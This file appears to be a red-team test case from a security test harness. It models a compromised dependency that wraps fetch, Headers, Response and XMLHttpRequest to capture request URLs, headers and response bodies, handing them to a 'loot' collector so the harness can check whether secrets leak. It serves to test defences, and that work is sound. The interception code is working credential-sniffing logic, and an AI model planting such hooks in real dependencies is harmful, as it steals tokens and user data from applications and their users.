// A real attacker: a compromised dependency, loaded first, wraps `fetch`, `Headers`, `Response` and `XMLHttpRequest`
// before the application and its SDK take them.
export default {
  row: "patch-before",
  expected: ["loses", "loses"],
  peers: true,
  before: (redteam) => {
    const look = (place, value) => {
      try {
        const text = typeof value === "string" ? value : JSON.stringify(value);
        if (text && text.length > 30) redteam.loot(`${place} ${text}`);
      } catch {
        // Not everything has a text.
      }
    };
    const { fetch } = globalThis;
    globalThis.fetch = function (input, init) {
      look("fetch", [String(input?.url ?? input), [...new Headers(init?.headers ?? input?.headers)]]);
      return fetch.call(globalThis, input, init).then((response) => {
        void response
          .clone()
          .text()
          .then((text) => look("answer", text))
          .catch(String);
        return response;
      });
    };
    for (const [name, owner] of [
      ["set", Headers],
      ["append", Headers],
      ["get", Headers],
      ["open", XMLHttpRequest],
      ["setRequestHeader", XMLHttpRequest],
      ["send", XMLHttpRequest],
      ["text", Response],
      ["json", Response],
    ]) {
      const own = owner.prototype[name];
      owner.prototype[name] = function (...given) {
        look(`${owner.name}.${name}`, given);
        const result = own.apply(this, given);
        void Promise.resolve(result)
          .then((value) => look(`${owner.name}.${name}`, value))
          .catch(String);
        return result;
      };
    }
  },
};
